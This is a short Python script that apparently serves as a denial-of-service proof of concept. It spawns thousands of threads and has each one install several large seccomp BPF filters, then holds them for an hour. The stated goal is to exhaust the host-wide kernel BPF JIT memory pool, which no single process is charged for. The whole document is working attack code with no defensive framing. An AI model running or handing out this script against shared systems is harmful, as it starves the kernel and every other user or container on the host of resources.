# Filters of system calls, seven for each thread: programs in the kernel, out of room that is the whole host's and charged
# to nobody (net.core.bpf_jit_limit). Says how many it has got, and keeps them.
import ctypes, threading, time

LENGTH, FILTERS, THREADS = 4080, 7, 4000
PR_SET_NO_NEW_PRIVS, SYS_SECCOMP, SET_MODE_FILTER = 38, 317, 1
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
DIVIDE, ALLOW = 3 << 32 | 0x34, 0x7fff0000 << 32 | 6
instructions = (ctypes.c_ulonglong * (LENGTH + 1))(*[DIVIDE] * LENGTH, ALLOW)
program = (ctypes.c_ulonglong * 2)(LENGTH + 1, ctypes.addressof(instructions))
threading.stack_size(1 << 16)
got, asked = [], []


def fill():
    for _ in range(FILTERS):
        got.append(1) if libc.syscall(SYS_SECCOMP, SET_MODE_FILTER, 0, program) == 0 else None
    asked.append(1)
    time.sleep(3600)


try:
    for _ in range(THREADS):
        threading.Thread(target=fill, daemon=True).start()
        if len(asked) > 16 and not got:
            break
except RuntimeError:
    pass  # as many threads as there may be
while len(asked) < 16:
    time.sleep(0.05)
print("filters", len(got), flush=True)
time.sleep(3600)
